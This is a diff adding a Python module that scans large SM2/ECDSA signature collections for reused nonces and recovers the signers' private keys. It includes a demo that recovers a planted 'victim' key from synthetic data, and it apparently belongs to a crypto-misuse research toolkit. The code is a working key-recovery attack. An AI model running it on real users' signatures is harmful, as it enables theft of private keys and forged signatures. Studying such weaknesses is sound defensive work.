@@ -0,0 +1,323 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+"""
+SM2/ECDSA Nonce Reuse Scanner
+SM2/ECDSA签名语料随机数重用扫描器
+
+该模块为每个签名计算随机数指纹（SM2: x1 = (r - e) mod n，ECDSA: r），
+通过可溢出到磁盘的分区哈希连接在大规模签名语料中查找k重复的签名，
+并对每个碰撞组自动调用sm2_misuse_poc中对应的私钥恢复公式。
+"""
+
+import hashlib
+import os
+import shutil
+import struct
+import tempfile
+from typing import Dict, Iterable, Iterator, List, NamedTuple, Optional, Tuple
+import gmpy2
+from .sm2_basic import SM2Point
+from .sm2_misuse_poc import SM2SignatureMisuse
+
+
+SCHEME_SM2 = 'sm2'
+SCHEME_ECDSA = 'ecdsa'
+
+_SCHEME_CODES = {SCHEME_SM2: 0, SCHEME_ECDSA: 1}
+_SCHEME_NAMES = {code: name for name, code in _SCHEME_CODES.items()}
+
+# 磁盘记录格式: 指纹(32) | 方案(1) | r(32) | s(32) | e(32) | 用户ID长度(2) | 用户ID
+_RECORD_HEADER = struct.Struct('>32sB32s32s32sH')
+
+
+class SignatureRecord(NamedTuple):
+    """待扫描的签名记录，e为已按对应方案计算好的消息哈希整数"""
+    scheme: str
+    user_id: str
+    r: int
+    s: int
+    e: int
+
+
+class NonceReuseScanner:
+    """基于随机数指纹哈希连接的k重用扫描器"""
+
+    def __init__(self, memory_limit: int = 1_000_000, num_partitions: int = 256,
+                 spill_dir: Optional[str] = None):
+        self.misuse = SM2SignatureMisuse()
+        self.curve = self.misuse.curve
+        self.memory_limit = memory_limit
+        self.num_partitions = num_partitions
+        self._spill_dir = spill_dir
+        self._owns_spill_dir = False
+        self._buffers: List[List[bytes]] = [[] for _ in range(num_partitions)]
+        self._buffered = 0
+        self._spilled = False
+        self.record_count = 0
+        self.public_keys: Dict[str, SM2Point] = {}
+        self.known_private_keys: Dict[str, int] = {}
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, exc_type, exc, tb):
+        self.close()
+
+    def close(self):
+        """删除扫描器创建的临时溢出目录"""
+        if self._owns_spill_dir and self._spill_dir:
+            shutil.rmtree(self._spill_dir, ignore_errors=True)
+            self._spill_dir = None
+            self._owns_spill_dir = False
+
+    def register_public_key(self, user_id: str, public_key: SM2Point):
+        """登记用户公钥，用于校验恢复出的私钥"""
+        self.public_keys[user_id] = public_key
+
+    def register_known_private_key(self, user_id: str, private_key: int):
+        """登记已知私钥（如攻击者自有密钥），用于跨用户碰撞时求出k"""
+        self.known_private_keys[user_id] = private_key
+
+    def sm2_digest(self, message: bytes, public_key: SM2Point) -> int:
+        """按SM2实现计算e = H(M || ZA) mod n"""
+        e_hash = self.misuse.sm2._hash_message(message, public_key)
+        return int.from_bytes(e_hash, 'big') % self.curve.n
+
+    def ecdsa_digest(self, message: bytes) -> int:
+        """按误用POC中的ECDSA模拟计算e = H(M) mod n"""
+        return int.from_bytes(hashlib.sha256(message).digest(), 'big') % self.curve.n
+
+    def fingerprint(self, record: SignatureRecord) -> int:
+        """计算随机数指纹：k相同则指纹相同"""
+        if record.scheme == SCHEME_SM2:
+            # r = (e + x1) mod n  =>  x1 = (r - e) mod n
+            return (record.r - record.e) % self.curve.n
+        if record.scheme == SCHEME_ECDSA:
+            # r = x1 mod n
+            return record.r % self.curve.n
+        raise ValueError(f"Unsupported signature scheme: {record.scheme}")
+
+    def add(self, record: SignatureRecord):
+        """加入一条签名记录，超过内存上限时溢出到磁盘分区"""
+        fp = self.fingerprint(record)
+        fp_bytes = int(fp).to_bytes(32, 'big')
+        uid = record.user_id.encode()
+        encoded = _RECORD_HEADER.pack(
+            fp_bytes, _SCHEME_CODES[record.scheme],
+            int(record.r).to_bytes(32, 'big'), int(record.s).to_bytes(32, 'big'),
+            int(record.e % self.curve.n).to_bytes(32, 'big'), len(uid)
+        ) + uid
+
+        self._buffers[self._partition_of(fp_bytes)].append(encoded)
+        self._buffered += 1
+        self.record_count += 1
+
+        if self._buffered >= self.memory_limit:
+            self._spill()
+
+    def add_many(self, records: Iterable[SignatureRecord]):
+        """批量加入签名记录"""
+        for record in records:
+            self.add(record)
+
+    def _partition_of(self, fp_bytes: bytes) -> int:
+        return int.from_bytes(fp_bytes[:4], 'big') % self.num_partitions
+
+    def _partition_path(self, index: int) -> str:
+        return os.path.join(self._spill_dir, f"part_{index:04d}.bin")
+
+    def _spill(self):
+        """将内存缓冲区追加写入各分区文件"""
+        if self._spill_dir is None:
+            self._spill_dir = tempfile.mkdtemp(prefix='nonce_scan_')
+            self._owns_spill_dir = True
+        os.makedirs(self._spill_dir, exist_ok=True)
+
+        for index, buffer in enumerate(self._buffers):
+            if not buffer:
+                continue
+            with open(self._partition_path(index), 'ab') as f:
+                f.write(b''.join(buffer))
+            buffer.clear()
+
+        self._buffered = 0
+        self._spilled = True
+
+    def _iter_partition(self, index: int) -> Iterator[Tuple[bytes, SignatureRecord]]:
+        """读取单个分区（磁盘部分 + 内存部分）中的记录"""
+        chunks = []
+        if self._spilled and os.path.exists(self._partition_path(index)):
+            with open(self._partition_path(index), 'rb') as f:
+                chunks.append(f.read())
+        chunks.append(b''.join(self._buffers[index]))
+
+        header_size = _RECORD_HEADER.size
+        for data in chunks:
+            offset = 0
+            while offset < len(data):
+                fp_bytes, code, r, s, e, uid_len = _RECORD_HEADER.unpack_from(data, offset)
+                offset += header_size
+                user_id = data[offset:offset + uid_len].decode()
+                offset += uid_len
+                yield fp_bytes, SignatureRecord(
+                    _SCHEME_NAMES[code], user_id,
+                    int.from_bytes(r, 'big'), int.from_bytes(s, 'big'), int.from_bytes(e, 'big')
+                )
+
+    def collisions(self) -> Iterator[Tuple[int, List[SignatureRecord]]]:
+        """逐分区做哈希连接，产出指纹相同的签名组"""
+        for index in range(self.num_partitions):
+            groups: Dict[bytes, List[SignatureRecord]] = {}
+            for fp_bytes, record in self._iter_partition(index):
+                groups.setdefault(fp_bytes, []).append(record)
+
+            for fp_bytes, records in groups.items():
+                unique = list(dict.fromkeys(records))
+                if len(unique) > 1:
+                    yield int.from_bytes(fp_bytes, 'big'), unique
+
+    def scan(self) -> List[Dict]:
+        """扫描全部记录，返回所有恢复出的私钥"""
+        findings = []
+        for fp, group in self.collisions():
+            findings.extend(self.recover_group(fp, group))
+        return findings
+
+    def recover_group(self, fingerprint: int, group: List[SignatureRecord]) -> List[Dict]:
+        """对共享同一k的签名组求出k，并恢复组内每个用户的私钥"""
+        k, method = self._derive_nonce(group)
+        if k is None:
+            return []
+
+        findings = []
+        recovered = {}
+        for record in group:
+            if (record.user_id, record.scheme) in recovered:
+                continue
+            private_key = self._private_key_from_nonce(record, k)
+            if private_key is None:
+                continue
+            recovered[(record.user_id, record.scheme)] = private_key
+            findings.append({
+                'fingerprint': fingerprint,
+                'user_id': record.user_id,
+                'scheme': record.scheme,
+                'private_key': private_key,
+                'nonce': k,
+                'method': method,
+                'verified': self._verify_private_key(record.user_id, private_key),
+            })
+        return findings
+
+    def _derive_nonce(self, group: List[SignatureRecord]) -> Tuple[Optional[int], Optional[str]]:
+        """从碰撞组中求出共享的k"""
+        # 1. 组内有已知私钥的用户：直接由其签名算出k
+        for record in group:
+            if record.user_id in self.known_private_keys:
+                k = self._nonce_from_private_key(record, self.known_private_keys[record.user_id])
+                if k is not None:
+                    return k, 'known_private_key'
+
+        # 2. 同一用户的两个签名：按方案组合选择恢复公式
+        by_user: Dict[str, List[SignatureRecord]] = {}
+        for record in group:
+            by_user.setdefault(record.user_id, []).append(record)
+
+        for records in by_user.values():
+            for i in range(len(records)):
+                for j in range(i + 1, len(records)):
+                    a, b = records[i], records[j]
+                    private_key, method = self._solve_pair(a, b)
+                    if private_key is None:
+                        continue
+                    k = self._nonce_from_private_key(a, private_key)
+                    if k is not None and k == self._nonce_from_private_key(b, private_key):
+                        return k, method
+
+        return None, None
+
+    def _solve_pair(self, a: SignatureRecord, b: SignatureRecord) -> Tuple[Optional[int], Optional[str]]:
+        """同一用户、同一k的两条签名求私钥"""
+        n = self.curve.n
+        if a.scheme == SCHEME_SM2 and b.scheme == SCHEME_SM2:
+            return (self.misuse._solve_same_user_nonce_reuse((a.r, a.s), (b.r, b.s)),
+                    'same_user_nonce_reuse')
+        if a.scheme == SCHEME_ECDSA and b.scheme == SCHEME_ECDSA:
+            # k = (e1 - e2) / (s1 - s2),  d = (s1 * k - e1) / r
+            if (a.s - b.s) % n == 0 or a.r % n == 0:
+                return None, None
+            k = ((a.e - b.e) * gmpy2.invert(a.s - b.s, n)) % n
+            return ((a.s * k - a.e) * gmpy2.invert(a.r, n)) % n, 'ecdsa_nonce_reuse'
+        sm2_record, ecdsa_record = (a, b) if a.scheme == SCHEME_SM2 else (b, a)
+        return (self.misuse._solve_sm2_ecdsa_same_key(
+                    (sm2_record.r, sm2_record.s), (ecdsa_record.r, ecdsa_record.s), ecdsa_record.e),
+                'sm2_ecdsa_same_key')
+
+    def _nonce_from_private_key(self, record: SignatureRecord, private_key: int) -> Optional[int]:
+        """由私钥和签名反推k"""
+        n = self.curve.n
+        if record.scheme == SCHEME_SM2:
+            # s = (1 + d)^-1 (k - r d)  =>  k = s + (s + r) d
+            return (record.s + (record.s + record.r) * private_key) % n
+        if record.s % n == 0:
+            return None
+        # s = k^-1 (e + r d)  =>  k = (e + r d) / s
+        return ((record.e + record.r * private_key) * gmpy2.invert(record.s, n)) % n
+
+    def _private_key_from_nonce(self, record: SignatureRecord, k: int) -> Optional[int]:
+        """由已知k恢复签名者私钥"""
+        n = self.curve.n
+        if record.scheme == SCHEME_SM2:
+            if (record.s + record.r) % n == 0:
+                return None
+            return self.misuse._recover_private_key_from_different_users_same_k(
+                (record.r, record.s), k, None, None
+            )
+        if record.r % n == 0:
+            return None
+        # d = (s k - e) / r
+        return ((record.s * k - record.e) * gmpy2.invert(record.r, n)) % n
+
+    def _verify_private_key(self, user_id: str, private_key: int) -> Optional[bool]:
+        """若登记了公钥则校验d * G == P，否则返回None"""
+        public_key = self.public_keys.get(user_id)
+        if public_key is None:
+            return None
+        return private_key * self.misuse.G == public_key
+
+
+def main():
+    """演示：在带噪声的签名语料中定位k重用并恢复私钥"""
+    import random
+
+    scanner = NonceReuseScanner(memory_limit=2000, num_partitions=16)
+    misuse = scanner.misuse
+    n = scanner.curve.n
+
+    print("=== SM2/ECDSA随机数重用扫描演示 ===")
+
+    # 噪声签名
+    for i in range(10000):
+        scanner.add(SignatureRecord(random.choice([SCHEME_SM2, SCHEME_ECDSA]), f"noise-{i}",
+                                    random.randrange(1, n), random.randrange(1, n),
+                                    random.randrange(1, n)))
+
+    # 同一用户重复使用k
+    d, P = misuse.sm2.generate_keypair()
+    scanner.register_public_key('victim', P)
+    k = random.randrange(1, n)
+    for message in (b"first", b"second"):
+        r, s = misuse._sign_with_fixed_k(message, d, P, k)
+        scanner.add(SignatureRecord(SCHEME_SM2, 'victim', r, s, scanner.sm2_digest(message, P)))
+
+    with scanner:
+        findings = scanner.scan()
+
+    print(f"扫描签名数: {scanner.record_count}")
+    for finding in findings:
+        print(f"用户 {finding['user_id']} ({finding['scheme']}): 方法={finding['method']}, "
+              f"校验={'通过' if finding['verified'] else '未知' if finding['verified'] is None else '失败'}")
+
+
+if __name__ == "__main__":
+    main()